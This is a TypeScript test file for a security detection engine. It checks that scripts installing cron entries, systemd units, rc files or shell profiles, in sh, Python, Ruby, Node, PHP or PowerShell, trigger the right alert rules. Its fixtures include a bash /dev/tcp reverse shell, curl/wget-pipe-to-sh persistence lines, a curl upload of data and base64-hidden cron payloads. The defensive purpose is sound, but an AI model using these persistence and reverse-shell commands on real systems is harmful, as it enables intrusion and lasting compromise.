/**
 * What a script installs to run later (exec-persisted-runs.ts; cron lines: exec-cron-entries.ts),
 * read through real canonical readings (exec-canonical.ts `payloads`), real interpreter readings
 * (exec-interpreter.ts) and the shipped rule set: the installed command raises the rules that read
 * commands, beside MLS-RAY-016 / -017's alert on the install.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { cronCommands, MAX_CRON_COMMANDS } from './exec-cron-entries.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { readCode } from './exec-interpreter.js';
import { MAX_PERSISTED_RUNS, unitCommands } from './exec-persisted-runs.js';
import { INDIRECT_DECODED } from './exec-readings.js';

const payloads = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.payloads;
const b64 = (s: string): string => Buffer.from(s).toString('base64');
/** The shell lines interpreter code runs, through the real reader. */
const codeLines = (code: string, lang: Parameters<typeof readCode>[1]): string[] => (readCode(code, lang)?.runs ?? []).flatMap((r) => (r.line === null ? [] : [r.line]));
const URL = 'http://203.0.113.7/x';
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';

describe('cron entries a script installs', () => {
  it('reads entry lines as crontab(5) writes them', () => {
    expect(cronCommands('*/5 * * * * curl -s u | sh', false)).toEqual(['curl -s u | sh']);
    expect(cronCommands('0 3 * * mon-fri root /opt/b.sh  --flag "a  b"', true)).toEqual(['/opt/b.sh  --flag "a  b"']);
    expect(cronCommands('@reboot /tmp/.k &\n@daily root id', false)).toEqual(['/tmp/.k &', 'root id']);
    expect(cronCommands('@reboot root /tmp/.k', true)).toEqual(['/tmp/.k']);
    // `%` ends the command (the rest is its stdin); `\%` is a percent sign.
    expect(cronCommands('0 0 * * * date +\\%F >> /tmp/d%x%y', false)).toEqual(['date +%F >> /tmp/d']);
    // Comments, settings, blank lines and lines that are no entry run nothing.
    expect(cronCommands('# x\nSHELL=/bin/bash\nMAILTO=""\n\n  \nnot an entry\n* * *', false)).toEqual([]);
    expect(cronCommands('* * * * * root', true)).toEqual([]);
    expect(cronCommands(Array.from({ length: 10 }, (_, i) => `* * * * * c${i}`).join('\n'), false)).toHaveLength(MAX_CRON_COMMANDS);
  });

  it('reads what crontab is given on stdin and what echo, printf and tee write to cron files', () => {
    expect(payloads('(crontab -l; echo "* * * * * curl -s http://203.0.113.7/x | sh") | crontab -')).toEqual(['curl -s http://203.0.113.7/x | sh']);
    expect(payloads('(crontab -l 2>/dev/null; printf "%s\\n" "@reboot /tmp/.k") | crontab -')).toEqual(['/tmp/.k']);
    expect(payloads('echo "*/5 * * * * wget -qO- http://203.0.113.7/m.sh | bash" | crontab -')).toEqual(['wget -qO- http://203.0.113.7/m.sh | bash']);
    expect(payloads(`echo ${b64('* * * * * curl -s http://203.0.113.7/x | sh')} | base64 -d | crontab -`)).toEqual(['curl -s http://203.0.113.7/x | sh']);
    expect(payloads('crontab - <<EOF\n0 3 * * * /usr/bin/find /tmp -mtime +7 -delete\nEOF')).toEqual(['/usr/bin/find /tmp -mtime +7 -delete']);
    expect(payloads('echo "@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" > /etc/cron.d/sys')).toEqual(['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
    expect(payloads('echo "0 * * * * root curl -T /tmp/c.tgz https://203.0.113.7/u" | tee -a /etc/crontab >/dev/null')).toEqual(['curl -T /tmp/c.tgz https://203.0.113.7/u']);
    expect(payloads('printf "* * * * * /tmp/.k\\n" >> /var/spool/cron/crontabs/root')).toEqual(['/tmp/.k']);
  });

  it('reads nothing where no entry text is given or the text goes elsewhere', () => {
    expect(payloads('crontab -l')).toEqual([]);
    expect(payloads('crontab -r; crontab -e')).toEqual([]);
    expect(payloads('crontab /tmp/jobs')).toEqual([]); // a file's entries: not in the script
    expect(payloads('crontab -l | grep -v backup | crontab -')).toEqual([]); // the old entries, filtered
    expect(payloads('(crontab -l; echo "* * * * * id") || crontab -')).toEqual([]); // `||` runs it on failure, reading no group output
    expect(payloads('echo "* * * * * curl -s u | sh" > /tmp/notes; echo "* * * * * id" >> /etc/cron.allow')).toEqual([]);
    expect(payloads('echo "* * * * * curl -s u | sh"')).toEqual([]);
  });

  it('raises the rules the entry command meets, for a person and a service account', () => {
    for (const actor of [undefined, SA]) {
      const fetched = execRuleIds(['sh', '-c', '(crontab -l; echo "* * * * * curl -s http://203.0.113.7/x | sh") | crontab -'], actor);
      expect(fetched).toContain('MLS-RAY-016');
      expect(fetched).toContain('MLS-RAY-012');
      expect(execRuleIds(['sh', '-c', 'echo "@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" > /etc/cron.d/sys'], actor)).toContain('MLS-RAY-015');
      expect(execRuleIds(['sh', '-c', 'echo "0 * * * * root tar czf /tmp/c.tgz /mnt/ckpt && curl -T /tmp/c.tgz https://203.0.113.7/u" | tee -a /etc/crontab'], actor)).toContain('MLS-EXFIL-014');
      // A housekeeping entry installs (MLS-RAY-016) and runs nothing the rules alert on (a service
      // account's exec raises MLS-RAY-006 whatever it runs).
      const housekeeping = execRuleIds(['sh', '-c', 'crontab - <<EOF\n0 3 * * * /usr/bin/find /tmp -mtime +7 -delete\nEOF'], actor);
      expect(housekeeping.filter((id) => id.startsWith('MLS-') && id !== 'MLS-RAY-006')).toEqual(['MLS-RAY-016']);
    }
  });
});

describe('systemd units, rc scripts and profiles a script writes', () => {
  it('reads a unit file\'s Exec… command lines as systemd.service(5) writes them', () => {
    const unit = [
      '[Unit]', 'Description=x', '[Service]', 'Type=oneshot', '# ExecStart=/bin/commented', 'ExecStartPre=-/usr/bin/mkdir -p /run/x',
      'ExecStart=@/bin/sh sh -c "id"', 'ExecStart=', 'ExecStart=+/usr/bin/curl -s \\', '  https://203.0.113.7/u', 'Environment=A=1', 'ExecStop = !!/bin/kill $MAINPID',
    ].join('\n');
    // `-` and the other prefixes dropped; `@`'s argv[0] word dropped; a `\` line goes on; an empty value runs nothing.
    expect(unitCommands(unit)).toEqual(['/usr/bin/mkdir -p /run/x', '/bin/sh -c "id"', '/usr/bin/curl -s    https://203.0.113.7/u', '/bin/kill $MAINPID']);
    expect(unitCommands('[Timer]\nOnCalendar=daily\nUnit=x.service')).toEqual([]);
    expect(unitCommands(Array.from({ length: 9 }, (_, i) => `ExecStartPre=/bin/c${i}`).join('\n'))).toHaveLength(MAX_PERSISTED_RUNS);
  });

  it('reads what cat, echo, printf and tee write where it runs, placed against the script\'s cd', () => {
    expect(payloads(`cat > /etc/cron.d/upd <<'EOF'\n* * * * * root curl -s ${URL} | sh\nEOF`)).toEqual([`curl -s ${URL} | sh`]);
    expect(payloads(`cat <<EOF > /etc/systemd/system/upd.service\n[Service]\nExecStart=/bin/bash -c '${SHELL}'\nEOF\nsystemctl enable --now upd`)).toEqual([`/bin/bash -c '${SHELL}'`]);
    expect(payloads(`printf '[Service]\\nExecStart=/usr/bin/wget -qO- ${URL}\\n' | tee /lib/systemd/system/k.service`)).toEqual([`/usr/bin/wget -qO- ${URL}`]);
    expect(payloads(`echo 'curl -s ${URL} | sh' >> ~/.bashrc`)).toEqual([`curl -s ${URL} | sh`]);
    expect(payloads(`echo '${SHELL}' >> /etc/rc.local`)).toEqual([SHELL]);
    expect(payloads(`echo "nohup /tmp/.k &" | cat >> /etc/profile.d/k.sh`)).toEqual(['nohup /tmp/.k &']);
    expect(payloads(`cd /etc/cron.d && echo '* * * * * root curl -s ${URL} | sh' > upd`)).toEqual([`curl -s ${URL} | sh`]);
    expect(payloads(`cd /etc; cd systemd/system; printf '[Service]\\nExecStart=/tmp/.k\\n' > k.service`)).toEqual(['/tmp/.k']);
    // Spelled in the script: literal, not decoded (printf's escapes made the lines, not their words).
    expect(canonicalExecValue(['sh', '-c', `printf '[Service]\\nExecStart=/tmp/.k\\n' > /etc/systemd/system/k.service`])!.indirectKinds & INDIRECT_DECODED).toBe(0);
    expect(canonicalExecValue(['sh', '-c', `echo ${b64(`ExecStart=/tmp/.k`)} | base64 -d > /etc/systemd/system/k.service`])!.indirectKinds & INDIRECT_DECODED).not.toBe(0);
  });

  it('reads nothing where the text is not given or does not go where it runs', () => {
    expect(payloads(`cd "$D" && echo '* * * * * id' > upd`)).toEqual([]); // a cd it cannot follow
    expect(payloads(`cd /tmp && echo '* * * * * id' > crontab`)).toEqual([]); // /tmp/crontab
    expect(payloads(`echo '* * * * * id' > upd; cd /etc/cron.d`)).toEqual([]); // the cd comes after
    expect(payloads('cat /tmp/unit > /etc/systemd/system/k.service')).toEqual([]); // a file's text: not in the script
    expect(payloads(`printf '[Unit]\\nDescription=k\\n' > /etc/systemd/system/k.service`)).toEqual([]); // no Exec line
    expect(payloads(`echo /tmp/k.so > /etc/ld.so.preload; echo 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys`)).toEqual([]);
    expect(payloads(`echo 'curl -s ${URL} | sh' > /tmp/bashrc`)).toEqual([]);
  });
});

describe('what interpreter code writes where it runs', () => {
  it('reads the text written whole, and what a file opened to write is given', () => {
    const cron = `* * * * * root curl -s ${URL} | sh`;
    expect(codeLines(`open('/etc/cron.d/upd', 'w').write('${cron}\\n')`, 'python')).toEqual([`curl -s ${URL} | sh`]);
    expect(codeLines(`with open('/etc/crontab', 'a') as f:\n    f.write('* * * * * root ')\n    f.write('${SHELL}\\n')`, 'python')).toEqual([SHELL]);
    expect(codeLines(`import os\nf = open(os.path.expanduser('~/.bashrc'), 'a')\nf.write('curl -s ${URL} | sh')\nf.close()`, 'python')).toEqual([`curl -s ${URL} | sh`]);
    expect(codeLines(`from pathlib import Path\nPath('/etc/systemd/system/u.service').write_text('[Service]\\nExecStart=/tmp/.k\\n')`, 'python')).toEqual(['/tmp/.k']);
    expect(codeLines(`File.write('/etc/cron.d/x', "${cron}\\n")`, 'ruby')).toEqual([`curl -s ${URL} | sh`]);
    expect(codeLines(`Pathname.new('/root/.bashrc').write('curl -s ${URL} | sh')`, 'ruby')).toEqual([`curl -s ${URL} | sh`]);
    expect(codeLines(`require('fs').appendFileSync('/root/.bashrc', '${SHELL}\\n')`, 'js')).toEqual([SHELL]);
    expect(codeLines(`file_put_contents('/etc/cron.d/x', '${cron}'.PHP_EOL);`, 'php')).toEqual([`curl -s ${URL} | sh`]);
    // Decoded text is decoded.
    const decoded = readCode(`import base64\nopen('/etc/cron.d/x', 'w').write(base64.b64decode('${b64(cron)}').decode())`, 'python')!;
    expect(decoded.runs.map((r) => r.line)).toEqual([`curl -s ${URL} | sh`]);
    expect(decoded.kinds & INDIRECT_DECODED).not.toBe(0);
  });

  it('reads nothing where the text goes elsewhere, is read, or is given to another handle', () => {
    expect(codeLines(`open('/tmp/notes', 'w').write('* * * * * root curl -s ${URL} | sh')`, 'python')).toEqual([]);
    expect(codeLines(`print(open('/etc/crontab').read())`, 'python')).toEqual([]);
    expect(codeLines(`f = open('/etc/crontab', 'a')\ng = open('/tmp/log', 'w')\ng.write('* * * * * root id')`, 'python')).toEqual([]);
    // A new binding of the handle ends the file's writes.
    expect(codeLines(`f = open('/etc/rc.local', 'a')\nf = open('/tmp/log', 'w')\nf.write('curl -s ${URL} | sh')`, 'python')).toEqual([]);
    expect(codeLines(`File.write('/tmp/x', 'curl -s ${URL} | sh')`, 'ruby')).toEqual([]);
  });

  it('reads what PowerShell cmdlets and .NET calls write where it runs', () => {
    const ps = (code: string): readonly string[] => canonicalExecValue(['pwsh', '-c', code])!.payloads;
    expect(ps(`Add-Content -Path /etc/crontab -Value '* * * * * root ${SHELL}'`)).toEqual([SHELL]);
    expect(ps(`Add-Content ~/.bashrc 'curl -s ${URL} | sh'`)).toEqual([`curl -s ${URL} | sh`]); // -Path and -Value by position
    expect(ps(`$c = '@reboot root ${SHELL}'; Set-Content -Path /etc/cron.d/k -Va $c`)).toEqual([SHELL]); // a bound variable, a prefix of -Value
    expect(ps(`'curl -s ${URL} | sh' | Out-File -Append -FilePath /etc/rc.local`)).toEqual([`curl -s ${URL} | sh`]); // its input
    expect(ps(`New-Item -Path /etc/cron.d/k -ItemType File -Value '* * * * * root ${SHELL}' -Force`)).toEqual([SHELL]);
    expect(ps(`[IO.File]::AppendAllText('/root/.bashrc', 'curl -s ${URL} | sh')`)).toEqual([`curl -s ${URL} | sh`]);
    expect(ps(`[System.IO.File]::WriteAllText("/etc/systemd/system/k.service", "[Service]\`nExecStart=/tmp/.k\`n")`)).toEqual(['/tmp/.k']);
    // Elsewhere, or a value known only at run time: nothing.
    expect(ps(`Add-Content -Path /tmp/notes -Value 'curl -s ${URL} | sh'`)).toEqual([]);
    expect(ps(`Add-Content -Path /etc/crontab -Value $env:X; Get-Content /etc/crontab | Out-Null`)).toEqual([]);
    expect(ps(`[IO.File]::ReadAllText('/etc/crontab'); Set-Content -Path /etc/motd -Value 'hi'`)).toEqual([]);
  });

  it('keeps its bounds on hostile code', () => {
    // Texts written elsewhere take no place from one written where it runs.
    const junk = Array.from({ length: 8 }, (_, i) => `open('/tmp/j${i}', 'w').write('x')`).join('\n');
    expect(codeLines(`${junk}\nopen('/etc/rc.local', 'a').write('curl -s ${URL} | sh')`, 'python')).toEqual([`curl -s ${URL} | sh`]);
    // Many opens of a place (near MAX_TOKENS), each with its handle's writes looked up in one index: the last one's is read.
    const opens = Array.from({ length: 120 }, (_, i) => `f${i} = open('/etc/crontab', 'a')`).join('\n');
    expect(codeLines(`${opens}\nf119.write('* * * * * root id')`, 'python')).toEqual(['id']);
  });

  it('raises the rules the written command meets, for a person and a service account', () => {
    for (const actor of [undefined, SA]) {
      const cron = execRuleIds(['python3', '-c', `open('/etc/cron.d/upd', 'w').write('* * * * * root curl -s ${URL} | sh\\n')`], actor);
      expect(cron).toContain('MLS-RAY-016');
      expect(cron).toContain('MLS-RAY-012');
      const unit = execRuleIds(['sh', '-c', `cat <<EOF > /etc/systemd/system/upd.service\n[Service]\nExecStart=/bin/bash -c '${SHELL}'\nEOF`], actor);
      expect(unit).toContain('MLS-RAY-016');
      expect(unit).toContain('MLS-RAY-015');
      expect(execRuleIds(['node', '-e', `require('fs').appendFileSync('/root/.bashrc', '${SHELL}\\n')`], actor)).toContain('MLS-RAY-015');
      // A profile line that runs nothing the rules alert on: only the install's own rule (and a service account's exec rule).
      const path = execRuleIds(['sh', '-c', `echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc`], actor);
      expect(path.filter((id) => id.startsWith('MLS-') && id !== 'MLS-RAY-006')).toEqual(['MLS-RAY-017']);
    }
  });
});
